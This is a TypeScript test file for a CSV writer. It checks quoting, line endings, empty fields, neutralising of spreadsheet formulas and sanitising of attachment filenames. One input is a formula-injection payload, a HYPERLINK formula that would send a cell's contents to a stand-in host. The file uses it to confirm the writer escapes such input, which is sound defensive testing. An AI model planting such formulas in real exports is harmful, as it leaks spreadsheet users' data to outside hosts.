import { attachment, csvField, toCsv } from './csv';

describe('CSV writer', () => {
  it('starts with a BOM, ends every record with CRLF, and writes the header first', () => {
    const text = toCsv(['a', 'b'], [{ a: 1, b: 'x' }]);
    expect(text).toBe('\uFEFFa,b\r\n1,x\r\n');
  });

  it('quotes a field with a comma, a quote, a CR or an LF, and doubles its quotes', () => {
    expect(csvField('Pisco sour, "doble"')).toBe('"Pisco sour, ""doble"""');
    expect(csvField('dos\nlíneas')).toBe('"dos\nlíneas"');
    expect(csvField('retorno\r')).toBe('"retorno\r"');
    expect(csvField('"')).toBe('""""');
    expect(csvField('Ají de gallina')).toBe('Ají de gallina');
  });

  it('writes null and undefined as empty fields, numbers with a dot decimal', () => {
    const text = toCsv(['n', 'm', 'x', 'y'], [{ n: null, m: undefined, x: 1234.5, y: 0.05 }] as {
      n: null;
      m: undefined;
      x: number;
      y: number;
    }[]);
    expect(text.split('\r\n')[1]).toBe(',,1234.5,0.05');
  });

  it('leaves a field a row lacks empty', () => {
    const rows: { a: number; b?: number }[] = [{ a: 1 }, { a: 2, b: 3 }];
    expect(toCsv(['a', 'b'], rows)).toBe('\uFEFFa,b\r\n1,\r\n2,3\r\n');
  });

  it('writes only the header when there are no rows', () => {
    expect(toCsv(['a'], [])).toBe('\uFEFFa\r\n');
  });

  it('writes a text a spreadsheet would evaluate with a leading quote, and numbers as they are', () => {
    expect(csvField('=HYPERLINK("http://x.example/?"&A1,"clic")')).toBe(
      '"\'=HYPERLINK(""http://x.example/?""&A1,""clic"")"',
    );
    expect(csvField('+51 999 888 777')).toBe("'+51 999 888 777");
    expect(csvField('-2+3')).toBe("'-2+3");
    expect(csvField('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)");
    expect(csvField('\t=1+1')).toBe("'\t=1+1");
    expect(csvField('\r=1+1')).toBe('"\'\r=1+1"');
    expect(csvField(-12.5)).toBe('-12.5');
    expect(csvField('Ceviche = rico')).toBe('Ceviche = rico');
    expect(csvField("'ya citado")).toBe("'ya citado");
  });

  it('names an attachment without breaking the header', () => {
    expect(attachment('ventas-dia-2026-11-01-2026-11-30.csv')).toBe(
      'attachment; filename="ventas-dia-2026-11-01-2026-11-30.csv"',
    );
    expect(attachment('a"b.csv')).toBe('attachment; filename="a_b.csv"');
  });
});
